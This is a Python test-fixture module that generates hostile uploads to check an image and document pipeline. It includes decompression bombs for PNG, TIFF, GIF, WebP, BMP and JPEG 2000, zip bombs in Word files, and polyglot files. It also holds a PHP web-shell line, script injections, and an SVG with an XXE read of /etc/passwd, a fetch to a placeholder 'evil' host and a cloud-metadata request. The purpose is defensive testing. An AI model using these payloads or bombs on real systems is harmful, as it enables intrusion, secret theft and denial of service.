"""Hostile pictures, made when they are asked for: bombs, liars, truncated and double-natured files.

Each case says what must become of it; `docs/hostile-inputs.md` is made from this list. Nothing here is a working
exploit of a decoder: what is tested is that limits, the allow-list and the re-encoding hold.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

from PIL import Image, PngImagePlugin

JPEG, PNG, ANY = "image/jpeg", "image/png", "application/octet-stream"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
SENT = "sent"
"""As a picture of our own making; a document as it is."""
SECRET = b"55.7558N 37.6173E secret place"
"""Planted in metadata and behind pictures: it must never leave."""


@dataclass(frozen=True)
class Case:
    """`expected` is a reason, or SENT. `content` makes the bytes."""

    name: str
    expected: str
    content: Callable[[], bytes]
    declared: str = JPEG
    slow: bool = False  # takes all the processor time that one picture may have


def encoded(form: str, size: tuple[int, int] = (300, 200), mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert(mode).save(out, form, **options)
    return out.getvalue()


def flat(form: str, size: tuple[int, int], mode: str = "L", **options: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, form, **options)
    return out.getvalue()


# --- PNG --------------------------------------------------------------------------------------------------------------


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, data: bytes, *extra: bytes, depth: int = 1, colour: int = 0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    end = chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(extra) + chunk(b"IDAT", data) + end


@cache
def zeros(length: int) -> bytes:
    """So many zeros, compressed a thousand to one."""
    packer = zlib.compressobj(9)
    whole, rest = divmod(length, 1 << 20)
    return b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(whole)), packer.compress(bytes(rest))]) + (
        packer.flush()
    )


def png_bomb() -> bytes:
    """400 million pixels of one bit: 50 MB when inflated, 50 kB here."""
    return png(20_000, 20_000, zeros(20_000 * (20_000 // 8 + 1)))


def png_text_bomb() -> bytes:
    """A comment that inflates to 64 MB."""
    return png(1, 1, zlib.compress(b"\0\0"), chunk(b"zTXt", b"Comment\0\0" + zeros(64_000_000)))


def png_profile_bomb() -> bytes:
    return png(1, 1, zlib.compress(b"\0\0"), chunk(b"iCCP", b"icc\0\0" + zeros(64_000_000)))


def png_with_everything() -> bytes:
    """Comments, XMP, EXIF and a profile, all naming a place."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SECRET.decode())
    info.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{SECRET.decode()}</x:xmpmeta>")
    return encoded("PNG", pnginfo=info, exif=exif(SECRET), icc_profile=SECRET)


# --- JPEG -------------------------------------------------------------------------------------------------------------


def exif(text: bytes, orientation: int = 1) -> Image.Exif:
    tags = Image.Exif()
    tags[0x0112] = orientation
    tags[0x010E] = text.decode("latin-1")
    tags.get_ifd(0x8825)[1] = "N"
    tags.get_ifd(0x8825)[2] = (55.0, 45.0, 20.88)
    return tags


def segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def jpeg_with_segments(*segments: bytes) -> bytes:
    plain = encoded("JPEG")
    return plain[:2] + b"".join(segments) + plain[2:]


def huge_exif() -> bytes:
    """Six megabytes of EXIF, a GPS position among it, XMP and comments."""
    real = b"Exif\0\0" + exif(SECRET).tobytes()
    xmp = b"http://ns.adobe.com/xap/1.0/\0<x>" + SECRET + b"</x>"
    return jpeg_with_segments(
        segment(0xE1, real),
        *(segment(0xE1, b"Exif\0\0" + SECRET + bytes(60_000)) for _ in range(100)),
        segment(0xE1, xmp),
        segment(0xFE, SECRET),
        segment(0xED, b"Photoshop 3.0\0" + SECRET),
    )


def looping_exif() -> bytes:
    """The EXIF directory names itself as its own continuation and as its GPS directory."""
    entry = struct.pack("<HHII", 0x8825, 4, 1, 8)
    return jpeg_with_segments(segment(0xE1, b"Exif\0\0II*\0" + struct.pack("<IH", 8, 1) + entry + struct.pack("<I", 8)))


def broken_exif() -> bytes:
    return jpeg_with_segments(segment(0xE1, b"Exif\0\0II*\0\xff\xff\xff\xff" + bytes(range(256))))


def large_jpeg() -> bytes:
    """15 MiB to the byte, a picture all the same."""
    plain = encoded("JPEG", (1200, 900), quality=95)
    comments = segment(0xFE, bytes(60_000)) * ((15 * 1024**2 - len(plain)) // 60_004)
    return (plain[:2] + comments + plain[2:]).ljust(15 * 1024**2, b"\0")


def scan_bomb(side: int = 7000, scans: int = 4000) -> bytes:
    """A progressive JPEG that says over and over how to refine nothing: each time is a walk over all its blocks."""
    plain = flat("JPEG", (side, side), progressive=True)
    at = plain.rindex(b"\xff\xda")
    return plain[:at] + plain[at:-2] * scans + b"\xff\xd9"


def lying_jpeg() -> bytes:
    """A small picture whose frame header says 65,500 by 65,500."""
    plain = bytearray(encoded("JPEG"))
    at = plain.index(b"\xff\xc0")
    plain[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(plain)


# --- TIFF, GIF, WebP, BMP, JPEG 2000 ----------------------------------------------------------------------------------


Entries = tuple[tuple[int, int, int, int | str], ...]
"""Tags of a directory: number, type, count and value; "AT" and "LEN" are where the body begins and how long it is."""


def tiff(*entries: tuple[int, int, int, int], body: bytes = b"", follows: int = 0) -> bytes:
    """A little-endian TIFF of one directory; `follows` is where it says that the next one is."""
    listed = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + listed + struct.pack("<I", follows) + body


def tiff_of(
    width: int, height: int, *more: tuple[int, int, int, int | str], body: bytes = bytes(64), follows: int = 0
) -> bytes:
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1), (277, 3, 1, 1)]
    end = 8 + 2 + 12 * (len(entries) + len(more)) + 4
    known = {"AT": end, "LEN": len(body)}
    placed = [(tag, kind, count, known[value] if isinstance(value, str) else value) for tag, kind, count, value in more]
    return tiff(*entries, *placed, body=body, follows=follows)


def tiff_tile_bomb() -> bytes:
    """A picture of a thousand pixels a side in tiles of 60,000."""
    body = zlib.compress(bytes(1000))
    tiles: Entries = ((322, 4, 1, 60_000), (323, 4, 1, 60_000), (324, 4, 1, "AT"), (325, 4, 1, "LEN"))
    return tiff_of(1000, 1000, *tiles, body=body)


def tiff_loop() -> bytes:
    """The directory after the first is the first."""
    body = zlib.compress(bytes(100))
    strips: Entries = ((273, 4, 1, "AT"), (278, 4, 1, 10), (279, 4, 1, "LEN"))
    return tiff_of(10, 10, *strips, body=body, follows=8)


def gif_bomb() -> bytes:
    return b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0x80, 0, 0) + bytes(6) + gif_frame(1, 1) + b";"


def gif_frame(width: int, height: int) -> bytes:
    return b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\x00"


def gif_lying_frame() -> bytes:
    """A screen of one pixel, and a frame far larger than it."""
    return b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + bytes(6) + gif_frame(60_000, 60_000) + b";"


def gif_of_many_frames() -> bytes:
    frames = [Image.new("L", (32, 32), shade % 256) for shade in range(1000)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], comment=SECRET)
    return out.getvalue()


def webp_bomb() -> bytes:
    """16,384 by 16,384, says the header of the lossless stream."""
    bits = (16_383 | 16_383 << 14).to_bytes(4, "little")
    stream = b"\x2f" + bits + bytes(64)
    body = b"WEBPVP8L" + struct.pack("<I", len(stream)) + stream + b"\0" * (len(stream) % 2)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def bmp_bomb() -> bytes:
    header = struct.pack("<IiiHHIIiiII", 40, 0x7FFFFFFF, 0x7FFFFFFF, 1, 24, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + header + bytes(100)


def bmp_run_length_bomb() -> bytes:
    """7,000 by 7,000 in runs of which there are hardly any."""
    header = struct.pack("<IiiHHIIiiII", 40, 7000, 7000, 1, 8, 1, 20, 0, 0, 256, 0)
    return b"BM" + struct.pack("<IHHI", 1098, 0, 0, 1078) + header + bytes(1024) + b"\xff\x01" * 8 + b"\0\1"


def jpeg_2000_bomb() -> bytes:
    plain = bytearray(encoded("JPEG2000"))
    at = plain.index(b"ihdr") + 4
    plain[at : at + 8] = struct.pack(">II", 60_000, 60_000)
    return bytes(plain)


# --- two things at once -----------------------------------------------------------------------------------------------


def zipped(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return out.getvalue()


def jpeg_and_zip() -> bytes:
    return encoded("JPEG") + zipped(("evil.exe", b"MZ" + SECRET))


def png_and_script() -> bytes:
    return encoded("PNG") + b"<?php system($_GET['c']); ?><script>alert(1)</script>" + SECRET


def jpeg_and_pdf() -> bytes:
    return jpeg_with_segments(segment(0xFE, b"\n%PDF-1.7\n" + SECRET))


def gif_and_javascript() -> bytes:
    """The bytes of the width open a comment of JavaScript, as in the old trick of GIFs served as scripts."""
    return b"GIF89a/*" + encoded("GIF")[8:] + b"*/=1;alert(1)//" + SECRET


def svg() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("//evil")</script>'
        b'<image href="http://169.254.169.254/latest"/><text>&x;</text></svg>'
    )


# --- documents --------------------------------------------------------------------------------------------------------


def word(*more: tuple[str, bytes]) -> bytes:
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"), *more)


@cache
def unpacking_bomb() -> bytes:
    """A Word file that says of one part that it is 4 GB, and holds five of them."""
    plain = word(*((f"word/media/{number}.bin", bytes(1 << 20)) for number in range(5)))
    return plain.replace(struct.pack("<I", 1 << 20), struct.pack("<I", 0xFFFF_FFF0))


def nested() -> bytes:
    """Zips within zips: the outer directory is all that anybody looks at."""
    inner = b"end"
    for depth in range(20):
        inner = zipped((f"word/{depth}.docx", inner))
    return word(("word/deeper.docx", inner))


def many_entries() -> bytes:
    return word(*((f"word/{number}", b"") for number in range(20_000)))


# --- the corpus -------------------------------------------------------------------------------------------------------

CASES = (
    Case("PNG bomb: 400 million pixels in 50 kB", "too_many_pixels", png_bomb, PNG),
    Case("PNG whose header says 100,000 × 100,000", "too_many_pixels", lambda: png(10**5, 10**5, zeros(100)), PNG),
    Case(
        "PNG whose header says 7,000 × 7,000 and has one row", "undecodable", lambda: png(7000, 7000, zeros(900)), PNG
    ),
    Case("PNG of 10 × 10 that inflates to 64 MB", SENT, lambda: png(10, 10, zeros(64_000_000)), PNG),
    Case("PNG with a comment that inflates to 64 MB", "undecodable", png_text_bomb, PNG),
    Case("PNG with a profile that inflates to 64 MB", "undecodable", png_profile_bomb, PNG),
    Case("TIFF bomb: 30,000 × 30,000", "too_many_pixels", lambda: tiff_of(30_000, 30_000), "image/tiff"),
    Case("TIFF in tiles of 60,000 × 60,000", "undecodable", tiff_tile_bomb, "image/tiff"),
    Case("TIFF whose directories go round in a circle", SENT, tiff_loop, "image/tiff"),
    Case("GIF bomb: 65,535 × 65,535", "too_many_pixels", gif_bomb, "image/gif"),
    Case("GIF of one pixel with a frame of 60,000 × 60,000", "too_many_pixels", gif_lying_frame, "image/gif"),
    Case("GIF of 1,000 frames", SENT, gif_of_many_frames, "image/gif"),
    Case("WebP bomb: 16,384 × 16,384", "undecodable", webp_bomb, "image/webp"),
    Case("BMP of two thousand million pixels a side", "too_many_pixels", bmp_bomb, "image/bmp"),
    Case("BMP of 7,000 × 7,000 in a few runs", "undecodable", bmp_run_length_bomb, "image/bmp"),
    Case("JPEG 2000 bomb", "unsupported_type", jpeg_2000_bomb, "image/jp2"),
    Case("JPEG 2000, sound", "unsupported_type", lambda: encoded("JPEG2000"), JPEG),
    Case("JPEG whose header says 65,500 × 65,500", "too_many_pixels", lying_jpeg),
    Case("JPEG that refines itself 4,000 times", "decoding_timeout", scan_bomb, slow=True),
    Case("JPEG cut in half", "undecodable", lambda: encoded("JPEG")[:9000]),
    Case("PNG cut in half", "undecodable", lambda: encoded("PNG")[:20_000], PNG),
    Case("WebP cut in half", "undecodable", lambda: encoded("WEBP")[:3000], "image/webp"),
    Case("TIFF cut in half", "undecodable", lambda: encoded("TIFF")[:20_000], "image/tiff"),
    Case("GIF cut in half", "undecodable", lambda: encoded("GIF", mode="L")[:20_000], "image/gif"),
    Case("JPEG of 20 bytes", "unsupported_type", lambda: encoded("JPEG")[:20]),
    Case("no bytes at all", "empty", lambda: b""),
    Case("nothing but zeros", "unsupported_type", lambda: bytes(100_000)),
    Case("ZIP named .jpg", "unsupported_type", lambda: zipped(("a.txt", b"x"))),
    Case("program named .jpg", "unsupported_type", lambda: b"\x7fELF\x02\x01\x01" + bytes(500)),
    Case("text named .png", "unsupported_type", lambda: b"not a picture at all", PNG),
    Case("HTML named .jpg", "unsupported_type", lambda: b"<html><script>alert(1)</script></html>"),
    Case("SVG with scripts and entities", "unsupported_type", svg, "image/svg+xml"),
    Case("SVG named .png", "unsupported_type", svg, PNG),
    Case("JPEG with a ZIP behind it", SENT, jpeg_and_zip),
    Case("JPEG with a PDF in its comment", SENT, jpeg_and_pdf),
    Case("PNG with PHP and JavaScript behind it", SENT, png_and_script, PNG),
    Case("GIF that is JavaScript as well", SENT, gif_and_javascript, "image/gif"),
    Case("JPEG of 15 MiB", SENT, large_jpeg),
    Case("file of 41 MB", "too_large", lambda: encoded("JPEG") + bytes(41_000_000)),
    Case("PNG declared as TIFF", SENT, lambda: encoded("PNG"), "image/tiff"),
    Case("JPEG declared as a PDF", SENT, lambda: encoded("JPEG"), "application/pdf"),
    Case("JPEG with 6 MB of EXIF, GPS, XMP and comments", SENT, huge_exif),
    Case("JPEG whose EXIF contains itself", SENT, looping_exif),
    Case("JPEG whose EXIF is broken", SENT, broken_exif),
    Case("PNG with comments, XMP, EXIF and a profile", SENT, png_with_everything, PNG),
    Case("Word file that unpacks to 20 GB", "too_large", unpacking_bomb, DOCX),
    Case("Word file of 20,000 parts", "too_large", many_entries, DOCX),
    Case("Word file, zips nested twenty deep", SENT, nested, DOCX),
    Case("Word file cut in half", "undecodable", lambda: word(("word/a", bytes(10_000)))[:150], DOCX),
)


def quick() -> Iterator[Case]:
    return (case for case in CASES if not case.slow)
